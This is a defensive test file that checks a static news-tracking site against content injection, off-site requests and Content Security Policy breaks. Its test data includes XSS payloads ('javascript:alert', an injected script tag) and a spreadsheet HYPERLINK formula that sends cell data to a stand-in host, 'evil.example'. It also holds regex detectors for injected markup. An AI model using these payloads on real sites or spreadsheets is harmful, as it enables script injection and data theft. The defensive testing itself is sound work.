/**
 * Trust: no request leaves the site, the Content Security Policy holds, and content can never inject markup or
 * script into a page, neither through the fields of an entry (built end to end) nor through its Markdown text
 * (rendered with the site's own processor, should anything ever get past validation).
 */
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, inject } from 'vitest';
import { markdownProcessor } from '../../src/lib/markdown/processor.ts';
import { readMarkdownFile } from '../../src/lib/validation/source-file.ts';
import { buildSite } from '../support/build.ts';
import { chromiumArgs } from '../support/chromium.ts';
import { entry, writeCorpus } from '../support/corpus.ts';
import { hostileFixtures } from '../support/hostile.ts';
import { startPreview } from '../support/preview-server.ts';

let browser: Browser;
beforeAll(async () => {
	browser = await chromium.launch({ executablePath: inject('chromiumPath'), args: chromiumArgs });
});
afterAll(async () => {
	await browser?.close();
});

/** Opens a page and records what a reader's browser would do behind the scenes. */
async function watch(url: string, options: { javaScript?: boolean } = {}) {
	const context = await browser.newContext({ javaScriptEnabled: options.javaScript ?? true });
	const page = await context.newPage();
	const requests: string[] = [];
	const dialogs: string[] = [];
	const violations: string[] = [];
	page.on('request', (request) => requests.push(request.url()));
	page.on('dialog', (dialog) => {
		dialogs.push(dialog.message());
		void dialog.dismiss();
	});
	page.on('console', (message) => {
		if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
	});
	await page.goto(url);
	await page.waitForLoadState('networkidle');
	return { page, requests, dialogs, violations };
}

/** Elements and addresses that must never come from content. */
const injected = (page: Page) =>
	page.evaluate(() => [
		...[
			...document.querySelectorAll(
				'main script, main iframe, main object, main embed, main svg, main style, main img[onerror], main [onload], main [onclick]',
			),
		]
			// The site's own scripts are files it built, and its own chart is drawn of shapes and words only;
			// anything else in main came from content.
			.filter(
				(element) =>
					!(
						element.localName === 'script' &&
						element.getAttribute('src')?.startsWith('/_astro/') &&
						!element.textContent
					) &&
					!(
						element.matches('figure.overview > .plot > svg.chart') &&
						[element, ...element.querySelectorAll('*')].every(
							(part) =>
								['svg', 'path', 'line', 'text'].includes(part.localName) &&
								![...part.attributes].some((attribute) => attribute.name.startsWith('on')),
						)
					),
			)
			.map((element) => element.outerHTML.slice(0, 80)),
		...[...document.querySelectorAll('a[href], [src]')]
			.map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? '')
			.filter((address) => /^\s*(javascript|data|vbscript):/i.test(address)),
	]);

describe('the site keeps to itself', () => {
	const pages = [
		'/',
		'/?side=north&q=talks',
		'/events/2019-08-16-cprk-refuses-talks/',
		'/actors/kim-yo-jong/',
		'/topics/',
		'/search/?q=loudspeakers',
		'/data/',
		'/about/',
		'/no-such-page/',
	];

	it.each(pages)('%s: every request stays on the site, and nothing breaks the policy', async (address) => {
		const base = inject('baseUrl');
		const { requests, violations, dialogs, page } = await watch(`${base}${address}`);
		if (address.startsWith('/search')) await page.locator('[data-search-results] li').first().waitFor();
		expect(requests.filter((url) => new URL(url).origin !== new URL(base).origin)).toEqual([]);
		expect(violations).toEqual([]);
		expect(dialogs).toEqual([]);
		await page.context().close();
	});

	it('blocks an inline script the policy does not allow (tests/fixtures/gates/inline-script)', async () => {
		const base = inject('baseUrl');
		const context = await browser.newContext();
		const page = await context.newPage();
		const violations: string[] = [];
		page.on('console', (message) => {
			if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
		});
		await page.route(`${base}/fixture-inline-script/`, (route) =>
			route.fulfill({
				contentType: 'text/html',
				body: readFileSync('tests/fixtures/gates/inline-script/index.html', 'utf8'),
			}),
		);
		await page.goto(`${base}/fixture-inline-script/`);
		expect(await page.locator('#heading').textContent()).toBe('Not changed');
		expect(violations.length).toBeGreaterThan(0);
		await context.close();
	});
});

describe('content cannot inject markup or script', () => {
	// Validation refuses tags and control characters in plain-text fields (tests/fixtures/hostile/78-…, 79-…, 80-…):
	// what gets through is text full of the characters markup, feeds and spreadsheets care about, shown as text.
	const tricky = `"quoted" & 'single' < 3 > 2 javascript:alert(1)`;
	const formula = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
	let preview: Awaited<ReturnType<typeof startPreview>> | undefined;
	let out = '';

	beforeAll(async () => {
		const actors = `moon-jae-in:\n  name: ${JSON.stringify(`Moon ${tricky}`)}\n  side: south\n  type: person\n  description: ${JSON.stringify(`A president ${tricky}`)}\nkim-yo-jong:\n  name: Kim Yo Jong\n  side: north\n  type: person\ncprk:\n  name: CPRK\n  side: north\n  type: organisation\n`;
		const topics = `dialogue:\n  label: ${JSON.stringify(`+Talks ${tricky}`)}\n  description: ${JSON.stringify(`@Talks ${tricky}`)}\n`;
		const dir = writeCorpus(
			{
				'2019-08-15-hostile-fields.md': entry(
					{
						title: formula,
						channel: `-${tricky}`,
						summary: `@SUM(1) ${tricky}`,
						quotes: [{ text: `The end of a quote ${tricky}`, speaker: `"> ${tricky}`, source: 1 }],
						sources: [
							{
								title: `"> ${tricky}`,
								publisher: `Yonhap ${tricky}`,
								url: 'https://en.yna.co.kr/view/AEN20190815003600325?q="><script>alert(7)</script>',
							},
						],
					},
					'Text with a [fair link](https://en.yna.co.kr/view/AEN1).\n',
				),
			},
			{ actors, topics },
		);
		out = mkdtempSync(path.join(tmpdir(), 'trust-'));
		const result = buildSite(dir, out);
		if (result.status !== 0) throw new Error(result.output);
		preview = await startPreview(out);
	}, 120_000);

	afterAll(() => preview?.stop());

	it.each([
		'/',
		'/events/2019-08-15-hostile-fields/',
		'/ko/events/2019-08-15-hostile-fields/',
		'/events/2019-08-15-hostile-fields/embed/',
		'/actors/moon-jae-in/',
		'/topics/dialogue/',
		'/topics/',
	])('fields of an entry, an actor and a topic show as text on %s', async (address) => {
		const { page, dialogs } = await watch(`${preview!.baseUrl}${address}`);
		expect(dialogs).toEqual([]);
		expect(await injected(page)).toEqual([]);
		expect(await page.locator('main').textContent()).toContain(tricky);
		await page.context().close();
	});

	it('keeps the embed code one frame and nothing else, whatever the headline', async () => {
		const oembed = JSON.parse(readFileSync(path.join(out, 'events/2019-08-15-hostile-fields/oembed.json'), 'utf8'));
		const context = await browser.newContext();
		const page = await context.newPage();
		const parsed = await page.evaluate((html) => {
			const body = new DOMParser().parseFromString(html, 'text/html').body;
			const frame = body.querySelector('iframe');
			return {
				elements: [...body.querySelectorAll('*')].map((element) => element.tagName),
				attributes: [...(frame?.attributes ?? [])].map((attribute) => attribute.name),
				title: frame?.title,
			};
		}, oembed.html);
		expect(parsed.elements).toEqual(['IFRAME']);
		expect(parsed.attributes).toEqual(['src', 'width', 'height', 'title', 'loading', 'sandbox', 'style']);
		expect(parsed.title).toBe(`${formula} (Inter-Korean Statements)`);
		expect(oembed.title).toBe(formula);
		await context.close();
	});

	it('keeps the feeds well-formed and the spreadsheet free of live formulas', async () => {
		const context = await browser.newContext();
		const page = await context.newPage();
		for (const feed of ['/feed.xml', '/ko/feed.xml']) {
			const xml = readFileSync(path.join(out, feed), 'utf8');
			const errors = await page.evaluate(
				(text) => new DOMParser().parseFromString(text, 'application/xml').getElementsByTagName('parsererror').length,
				xml,
			);
			expect(errors, feed).toBe(0);
			expect(xml).toContain('=HYPERLINK(&quot;https://evil.example/?x=&quot;&amp;A1,&quot;Click&quot;)');
		}
		await context.close();
		const csv = readFileSync(path.join(out, 'events.csv'), 'utf8');
		for (const field of csv.split(/\r\n/)[1]!.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
			expect(field.replace(/^"/, '')).not.toMatch(/^[=+@-]/);
		expect(csv).toContain(`'${formula.replaceAll('"', '""')}`);
	});

	it('hostile Markdown rendered by the site’s processor comes out inert, even past validation', async () => {
		const bodies = hostileFixtures()
			.filter((fixture) => fixture.expected.some((line) => /raw HTML|link|image/.test(line)))
			.flatMap((fixture) => readdirBodies(fixture.dir));
		expect(bodies.length).toBeGreaterThanOrEqual(10);
		const renderer = await markdownProcessor.createRenderer({});
		const html = (await Promise.all(bodies.map((body) => renderer.render(body))))
			.map((result) => `<section>${result.code}</section>`)
			.join('\n');
		expect(html).not.toMatch(
			/<script|<iframe|<svg|<style|\son\w+=|(href|src)="\s*(javascript|data|vbscript):/i,
		);
		const file = path.join(mkdtempSync(path.join(tmpdir(), 'rendered-')), 'index.html');
		const policy = readFileSync('dist/index.html', 'utf8').match(
			/<meta http-equiv="content-security-policy"[^>]*>/i,
		)![0];
		writeFileSync(
			file,
			`<!doctype html><html lang="en"><head><meta charset="utf-8">${policy}<title>Rendered</title></head><body><main>${html}</main></body></html>`,
		);
		const context = await browser.newContext();
		const page = await context.newPage();
		const dialogs: string[] = [];
		page.on('dialog', (dialog) => {
			dialogs.push(dialog.message());
			void dialog.dismiss();
		});
		await page.goto(`file://${file}`);
		for (const link of await page.locator('a').all())
			await link.click({ trial: true }).catch(() => undefined);
		expect(dialogs).toEqual([]);
		expect(await injected(page)).toEqual([]);
		await context.close();
	});
});

/** The Markdown text of every entry file of a fixture. */
function readdirBodies(dir: string): string[] {
	return readdirSync(path.join(dir, 'events'), { recursive: true, withFileTypes: true })
		.filter((file) => file.isFile() && file.name.endsWith('.md'))
		.map((file) => readMarkdownFile(readFileSync(path.join(file.parentPath, file.name), 'utf8')).body);
}
